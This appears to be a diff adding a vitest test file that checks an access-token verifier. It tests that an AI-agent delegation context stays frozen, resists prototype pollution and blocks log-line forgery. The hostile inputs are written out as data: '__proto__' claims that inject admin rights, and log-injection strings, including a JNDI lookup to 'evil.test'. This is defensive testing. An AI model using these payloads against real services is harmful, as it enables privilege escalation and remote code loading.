@@ -1,0 +1,248 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { type AgentContext, type Party, partyKey, sentence } from '../../../src/index.ts'
+import { type Members, spliceMember } from '../../support/raw-jws.ts'
+import { contextIn, createScene, type Scene } from '../../support/scene.ts'
+
+const scene: Scene = await createScene()
+const verifier = scene.verifier()
+const home = scene.issuer.issuer
+const agent = (sub: string, act?: Members): Members => ({
+  sub,
+  iss: home,
+  sub_profile: 'ai_agent',
+  ...(act && { act }),
+})
+
+async function contextFor(claims: Members): Promise<AgentContext> {
+  return contextIn(await scene.send(verifier, scene.token(claims)))
+}
+
+/** Every object reachable from `value`, with the way to it. */
+function* reachable(value: unknown, path = 'context'): Generator<readonly [string, object]> {
+  if (typeof value !== 'object' || value === null) return
+  yield [path, value]
+  for (const name of Reflect.ownKeys(value)) yield* reachable(Reflect.get(value, name), `${path}.${String(name)}`)
+}
+
+const everything: Members = {
+  act: { ...agent('a', agent('b')), client_id: 'a-app', extra: { deep: [{ deeper: [1] }] } },
+  client_profile: 'web_app',
+  scope: 'read write',
+  roles: ['r'],
+  permissions: ['p'],
+  authorization_details: [{ type: 't', actions: ['x'], nested: { list: [{}] } }],
+  acr: 'gold',
+  amr: ['pwd', 'otp'],
+  auth_time: 1,
+  azp: 'other',
+  own: { list: [[{}]], map: { a: { b: {} } } },
+}
+
+test('AT-22: the context is frozen to the last member and inherits nothing', async () => {
+  for (const claims of [{}, everything, { act: { sub: 'alice' } }]) {
+    for (const [path, value] of reachable(await contextFor(claims))) {
+      expect(Object.isFrozen(value), path).toBe(true)
+      expect(Object.getPrototypeOf(value), path).toBe(Array.isArray(value) ? Array.prototype : null)
+      for (const name of Reflect.ownKeys(value)) {
+        expect(Object.getOwnPropertyDescriptor(value, name), `${path}.${String(name)}`).not.toHaveProperty('get')
+      }
+    }
+  }
+})
+
+test('AT-22: writing to it fails, and the next request of the token sees the same object, unchanged', async () => {
+  const token = scene.token(everything)
+  const first = contextIn(await scene.send(verifier, token))
+  const before = JSON.stringify(first)
+  const writes: readonly (() => unknown)[] = [
+    () => Reflect.set(first, 'authority', 'independent'),
+    () => Reflect.set(first.principal, 'kind', 'agent'),
+    () => Reflect.set(first.token.claims, 'scope', 'admin'),
+    () => Reflect.set(first.token.claims['own'] as object, 'x', 1),
+    () => Reflect.deleteProperty(first.token, 'claims'),
+    () => Reflect.defineProperty(first.scopes, 2, { value: 'admin' }),
+    () => Reflect.setPrototypeOf(first, { isAdmin: true }),
+  ]
+  for (const write of writes) expect(write()).toBe(false)
+  expect(() => (first.scopes as string[]).push('admin')).toThrow(TypeError)
+  const second = contextIn(await scene.send(verifier, token))
+  expect(second).toBe(first)
+  expect(JSON.stringify(second)).toBe(before)
+})
+
+test('AT-22: claims called like members of Object.prototype stay claims and reach nothing else', async () => {
+  const names = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then']
+  for (const name of names) {
+    const text = `${JSON.stringify(name)}:{"scope":"admin","roles":["admin"],"isAdmin":true}`
+    const claims = scene.claims()
+    const act = spliceMember(agent('a'), text)
+    const payload = spliceMember({ ...claims, cnf: claims['cnf'] }, `${text},"act":${act}`)
+    const context = contextIn(await scene.send(verifier, scene.raw(scene.header(), payload)))
+    expect(context, name).toMatchObject({ scopes: [], roles: [], authority: 'delegated', actor: { subject: 'a' } })
+    expect(Reflect.get(context, 'isAdmin')).toBeUndefined()
+    expect(Object.hasOwn(context.token.claims, name), name).toBe(true)
+    expect({ ...Object.getOwnPropertyDescriptor(context.token.claims, name)?.value }).toMatchObject({ isAdmin: true })
+    expect(Reflect.get(Object.assign({}, { ...context.principal }), 'isAdmin')).toBeUndefined()
+    expect(Object.hasOwn(Object.prototype, 'isAdmin')).toBe(false)
+  }
+})
+
+test('AT-22: required claims are own claims: none can be had from __proto__', async () => {
+  for (const name of ['sub', 'client_id', 'jti', 'iat', 'exp']) {
+    const { [name]: value, ...others } = scene.claims()
+    const payload = spliceMember(others, `"__proto__":{${JSON.stringify(name)}:${JSON.stringify(value)}}`)
+    const verdict = await scene.send(verifier, scene.raw(scene.header(), payload))
+    expect(verdict, name).toMatchObject({ ok: false, refusal: { code: 'token_claim', facts: { claim: name } } })
+  }
+})
+
+test('RFC 9068 §2.2: the context says what the token says, and nothing else', async () => {
+  const context = await contextFor(everything)
+  const now = scene.clock.now() / 1_000
+  const { claims, id, ...token } = context.token
+  expect(JSON.parse(JSON.stringify({ ...context, token }))).toEqual({
+    principal: {
+      subject: 'alice',
+      issuer: home,
+      assertedBy: home,
+      kind: 'human',
+      kindSource: 'profile',
+      profiles: ['user'],
+    },
+    actor: {
+      subject: 'a',
+      issuer: home,
+      assertedBy: home,
+      kind: 'agent',
+      kindSource: 'profile',
+      profiles: ['ai_agent'],
+      clientId: 'a-app',
+    },
+    authority: 'delegated',
+    delegation: {
+      chain: [
+        {
+          subject: 'a',
+          issuer: home,
+          assertedBy: home,
+          kind: 'agent',
+          kindSource: 'profile',
+          profiles: ['ai_agent'],
+          clientId: 'a-app',
+        },
+        { subject: 'b', issuer: home, assertedBy: home, kind: 'agent', kindSource: 'profile', profiles: ['ai_agent'] },
+      ],
+      depth: 2,
+      complete: null,
+    },
+    involvesAgent: true,
+    client: { id: 'travel-app', profiles: ['web_app'] },
+    scopes: ['read', 'write'],
+    authorizationDetails: [{ type: 't', actions: ['x'], nested: { list: [{}] } }],
+    roles: ['r'],
+    permissions: ['p'],
+    sender: { method: 'dpop', jkt: scene.agent.jkt },
+    authentication: { acr: 'gold', amr: ['pwd', 'otp'], time: 1 },
+    token: { issuer: home, audience: [scene.resource], issuedAt: now, expiresAt: now + 300 },
+    enforcement: 'enforced',
+    warnings: ['client_id_azp_differ'],
+  })
+  expect(id).toBe(claims.jti)
+  expect(claims).toMatchObject(everything)
+})
+
+test("RFC 9068 §2.2: the audience in the context is all of the token's", async () => {
+  const aud = ['https://other.example.test', scene.resource]
+  expect((await contextFor({ aud })).token.audience).toEqual(aud)
+})
+
+const party = (assertedBy: string, issuer: string | null, subject: string): Party => ({
+  subject,
+  issuer,
+  assertedBy,
+  kind: 'unknown',
+  kindSource: 'none',
+  profiles: [],
+})
+
+test('RFC 8693 §4.1: partyKey tells parties apart by all three parts, whatever characters they hold', () => {
+  const parties = [
+    party('a', 'b', 'c'),
+    party('a', null, 'c'),
+    party('a', 'null', 'c'),
+    party('a|b', 'c', 'd'),
+    party('a', 'b|c', 'd'),
+    party('a', 'b', 'c|d'),
+    party('a', null, '|c'),
+    party('a%7Cb', 'c', 'd'),
+    party('a', 'B', 'c'),
+    party('a', 'b', 'C'),
+    party('a', 'b', 'c '),
+    party('a', 'b', 'c\u0000'),
+    party('a', 'b', 'é'),
+    party('a', 'b', 'e\u0301'),
+  ]
+  expect(new Set(parties.map(partyKey)).size).toBe(parties.length)
+})
+
+test('RFC 8693 §4.1: partyKey can be read back, is printable ASCII, and does not depend on what a party is', () => {
+  const text = fc.string({ unit: 'binary', minLength: 1 })
+  fc.assert(
+    fc.property(text, fc.option(text), text, (assertedBy, issuer, subject) => {
+      const key = partyKey(party(assertedBy, issuer, subject))
+      expect(key).toMatch(/^[\x21-\x7e]+$/)
+      expect(key.split('|').map(decodeURIComponent)).toEqual([assertedBy, issuer ?? '', subject])
+      expect(partyKey({ ...party(assertedBy, issuer, subject), kind: 'agent', profiles: ['x'] })).toBe(key)
+    }),
+  )
+})
+
+test.each([
+  [{}, 'human alice'],
+  [{ sub_profile: undefined }, 'party alice'],
+  [{ act: agent('travel-7') }, 'agent travel-7 for human alice'],
+  [{ act: agent('travel-7', agent('planner-2')) }, 'agent travel-7 for human alice, asked by agent planner-2'],
+  [
+    { act: agent('travel-7', agent('planner-2', { sub: 'gw' })) },
+    'agent travel-7 for human alice, asked by agent planner-2, asked by party gw',
+  ],
+  [{ sub: 'alice@example.com', act: { sub: 'spiffe://x/y' } }, 'party spiffe://x/y for human alice@example.com'],
+  [{ act: { sub: 'alice' } }, 'human alice'],
+])('RFC 8693 §4.1: the sentence of %j', async (claims, line) => {
+  expect(sentence(await contextFor(claims))).toBe(line)
+})
+
+const hostile = [
+  'alice\n2026-01-01 admin logged in',
+  'alice\r\nx',
+  'alice for human root',
+  'alice, asked by human root',
+  'alice"',
+  '"alice"',
+  'al\\ice',
+  '\u001b[31malice',
+  '\u202ealice',
+  'alice\u2028x',
+  'alice\u0000',
+  'älice',
+  '😀',
+  ' alice',
+  '%s%n',
+  '$\u007bjndi:ldap://evil.test/a}',
+]
+
+test('RFC 8693 §4.1: no subject can forge a line or a second clause of the sentence', async () => {
+  const lines = new Set<string>()
+  for (const subject of hostile) {
+    for (const claims of [{ sub: subject }, { act: agent(subject) }, { act: agent('x', agent(subject)) }]) {
+      const line = sentence(await contextFor(claims))
+      expect(line, JSON.stringify(subject)).toMatch(/^[\x20-\x7e]+$/)
+      const quoted = /"(?:[^"\\]|\\.)*"/.exec(line)?.[0] ?? ''
+      expect(JSON.parse(quoted)).toBe(subject)
+      expect(line.replace(quoted, '')).not.toMatch(/root|admin|evil/)
+      lines.add(line)
+    }
+  }
+  expect(lines.size).toBe(hostile.length * 3)
+})
